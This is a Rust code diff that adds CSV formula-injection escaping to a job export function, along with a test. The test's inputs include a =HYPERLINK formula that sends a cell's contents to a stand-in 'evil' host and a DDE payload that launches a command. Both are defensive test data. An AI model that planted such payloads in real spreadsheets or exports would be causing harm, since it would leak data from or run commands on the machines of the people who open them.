@@ -163,8 +163,13 @@ pub fn overlaps(job: &wire::Job, (start, end): (i64, i64)) -> bool {
     job.submit.timestamp() < end && job.end.is_none_or(|ended| ended.timestamp() >= start)
 }
 
+/// One CSV cell. A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, tab or CR first; a
+/// job named `=HYPERLINK(…)`) gets a leading `'`, so it shows as the text it is (OWASP's advice);
+/// plain numbers stay numbers.
 fn csv_field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_string() }
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err();
+    let text = if formula { format!("'{text}") } else { text.to_string() };
+    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text }
 }
 
 /// CSV of `jobs`, one header line of API field names, CRLF line ends (RFC 4180).
@@ -247,5 +252,22 @@ mod tests {
             lines.next(),
             Some("1,\"a,\"\"b\"\"\",alice,ml,gpu,COMPLETED,2026-11-30T12:00:00Z,,00:01:00,1,1,n1,0:0,,")
         );
+    }
+
+    #[test]
+    fn csv_cells_never_read_as_formulas() {
+        for (name, cell) in [
+            ("=HYPERLINK(\"https://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1,\"\"x\"\")\""),
+            ("+1+1", "'+1+1"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("-5", "-5"),
+            ("train-1", "train-1"),
+        ] {
+            let csv = to_csv(&[job(1, "alice", name, 1)]);
+            let row = csv.split("\r\n").nth(1).expect("a row");
+            assert!(row.starts_with(&format!("1,{cell},alice,")), "{name:?} → {row}");
+        }
     }
 }
